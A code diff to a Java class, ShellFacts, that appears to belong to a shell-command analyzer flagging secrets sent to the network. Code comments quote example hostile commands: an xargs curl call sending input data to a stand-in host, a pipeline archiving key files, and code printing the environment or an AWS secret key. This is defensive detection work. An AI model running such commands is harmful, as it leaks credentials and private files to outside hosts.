@@ -245,16 +245,21 @@ final class ShellFacts {
                 r.signals.remove(Signal.CONFIG_CODE);
             }
             remember(c, r, written);
-            if (r.sends
+            // xargs curl 'https://x.example/?d={}': what the input holds becomes the arguments of a command that
+            // names a host, and so goes to it.
+            boolean sendsItsArguments = c.has(dev.lighthouse.shell.Trait.ARGUMENTS_FROM_INPUT) && !r.hosts.isEmpty();
+            boolean fedSecret = upstreamLeaks(c, readings);
+            if ((r.sends || sendsItsArguments)
                     && (secretInput
                             || readsSecret(r)
                             || r.dataHoldsSecret
                             || substitutionReadsSecret
-                            || upstreamLeaks(c, readings)
+                            || fedSecret
                             || readsAny(r, holdsSecrets))) {
                 r.signals.add(Signal.SECRET_TO_NETWORK);
             }
-            taint(r, secretInput, holdsSecrets);
+            // A command fed a secret writes it on: `rg -l KEY ~ | xargs tar czf /tmp/k.tgz` archives the keys.
+            taint(r, secretInput || fedSecret, holdsSecrets);
             acts.add(act(analysis.source(), c, r));
             previous = c;
             previousChangedNothing = quiet
@@ -637,6 +642,10 @@ final class ShellFacts {
             if (secretVariable || code.readsWholeEnvironment()) {
                 r.dataHoldsSecret = true;
             }
+        } else if (code.readsWholeEnvironment()) {
+            // print(os.environ), console.log(process.env): every variable printed, like env(1); what reads that
+            // output on is judged by the taint rules.
+            r.printsPrivate = true;
         } else if (code.environment().stream().anyMatch(name -> CommandReader.mentionsSecretVariable("$" + name))) {
             // print(os.environ["AWS_SECRET_ACCESS_KEY"]): a credential taken out of the environment, to the output or a
             // file; what reads that output on is judged by the taint rules.
